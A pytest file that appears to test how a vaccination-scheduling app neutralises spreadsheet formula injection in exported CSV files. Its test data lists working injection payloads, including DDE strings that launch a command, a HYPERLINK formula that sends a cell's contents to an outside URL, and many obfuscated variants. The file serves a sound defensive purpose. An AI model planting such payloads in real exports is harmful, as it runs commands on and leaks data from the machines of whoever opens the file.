"""No cell of a table that leaves is a formula, wherever it is opened."""

import csv
import io

import pytest

from vaccsched.shared import sheets

# What people put into a name, a reason or a lot number to be run on somebody else's machine.
LIVE = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"看")', '=WEBSERVICE("https://example.org/")', "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(1)", '=DDE("cmd","/C calc","a")', "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1",
    "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\x00=1+1", "\x07=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    ";=1+1", "a;=1+1", "a,=1+1", "a\t=1+1", "a\n=1+1", 'a"\n=1+1', "a|=1+1", '";=1+1', "a; =1+1", 'a;"=1+1',
    "王;-cmd|' /C calc'!A0", "王\r\n@SUM(1)",
)  # fmt: skip
STARTS = tuple("=+-@＝＋－＠")
SEPARATORS = (",", ";", "\t", "|")


def is_live(cell: str) -> bool:
    """As a generous reader sees it: whatever cannot be seen is skipped first."""
    return cell.lstrip('\t\r\n\x00\x07\x0b\x0c \u00a0\u3000\u200b\ufeff\u202e"').startswith(STARTS)


@pytest.mark.parametrize("separator", SEPARATORS)
def test_no_cell_is_live_whatever_the_reader_takes_for_the_separator(separator):
    file = sheets.as_csv([["姓名", "备注"], *[["张*", text] for text in LIVE], *[[text, "x"] for text in LIVE]])
    lines = file.decode("utf-8-sig").replace("\r\n", "\n").replace("\r", "\n").split("\n")
    read = [cell for row in csv.reader(io.StringIO("\n".join(lines)), delimiter=separator) for cell in row]
    cut = [cell for line in lines for cell in line.split(separator)]
    assert [cell for cell in [*read, *cut] if is_live(cell)] == []


def test_the_check_would_see_one():
    assert [text for text in LIVE if any(is_live(cell) for cell in text.replace(";", "\n").split("\n"))][:3] == [
        "=1+1", "+1+1", "-1+1",
    ]  # fmt: skip


@pytest.mark.parametrize("text", ["=1+1", "+86", "-2", "@SUM(A1)", "\t=1", " =1", "＝1"])
def test_a_dangerous_text_stays_readable(text):
    assert sheets.safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["张*", "2026-12-01", "97.0%", "a-b", "1 + 1", "—", 5, -3, 0.5, None, ""])
def test_other_cells_stay(value):
    assert sheets.safe_cell(value) == value
